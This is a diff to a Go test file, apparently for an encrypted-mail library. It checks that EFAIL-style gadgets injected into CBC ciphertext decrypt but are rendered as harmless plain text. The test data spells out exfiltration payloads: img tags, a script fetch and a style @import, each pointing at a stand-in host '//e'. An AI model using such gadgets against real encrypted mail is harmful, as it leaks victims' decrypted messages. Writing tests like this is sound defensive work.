@@ -56,6 +56,9 @@ func (h *house) plaintext(der []byte) string {
 	return string(b)
 }
 
+// inFront is the gadget that stands before all that was encrypted.
+const inFront = "in front of the whole"
+
 // TestEFAILGadgets: blocks that an attacker without a key has put into somebody's
 // CBC ciphertext. They do decrypt; the mail is never valid, and with
 // unauthenticated = "text" nothing of it is HTML or would fetch anything.
@@ -73,11 +76,11 @@ func TestEFAILGadgets(t *testing.T) {
 		der  []byte
 		want string // in the plaintext: the gadget works
 	}{
-		"image in the middle":   {must(victim().Insert(3, "<img src=\"//e.e/", "?a=", "\">")), "<img src=\"//e.e/"},
-		"text into a URL":       {must(victim().Insert(2, "<img alt='", "' src='//e.e/?")), "src='//e.e/?"},
-		"script":                {must(victim().Insert(3, "<script>/*", "*/fetch('//e'+'", "')</script>")), "*/fetch('//e'+'"},
-		"style":                 {must(victim().Insert(3, "<style>/*", "*/@import'//e';", "</style>")), "*/@import'//e';"},
-		"in front of the whole": {must(victim().Prefix("Content-Type: te", "xt/html ;x=\"")), ""}, // rubbish in the header: mostly stopped there
+		"image in the middle": {must(victim().Insert(3, "<img src=\"//e.e/", "?a=", "\">")), "<img src=\"//e.e/"},
+		"text into a URL":     {must(victim().Insert(2, "<img alt='", "' src='//e.e/?")), "src='//e.e/?"},
+		"script":              {must(victim().Insert(3, "<script>/*", "*/fetch('//e'+'", "')</script>")), "*/fetch('//e'+'"},
+		"style":               {must(victim().Insert(3, "<style>/*", "*/@import'//e';", "</style>")), "*/@import'//e';"},
+		inFront:               {must(victim().Prefix("Content-Type: te", "xt/html ;x=\"")), ""}, // rubbish in the header: mostly stopped there, else plain text
 	} {
 		if got := h.plaintext(k.der); !strings.Contains(got, k.want) {
 			t.Errorf("%s: the gadget does not work: %q", name, got)
@@ -156,6 +159,9 @@ func (h *house) leaf(name, kind, encoding string, r io.Reader) {
 	}
 	if media != "text/plain" && media != "application/pkcs7-mime" {
 		h.t.Errorf("%s: a part of type %s is left", name, media)
+	}
+	if name == inFront && media == "text/plain" {
+		return // rubbish has ended the header: what follows never was HTML to anybody
 	}
 	for _, tag := range []string{"<img", "<script", "<style", "<iframe", "<html"} {
 		if strings.Contains(strings.ToLower(string(b)), tag) {
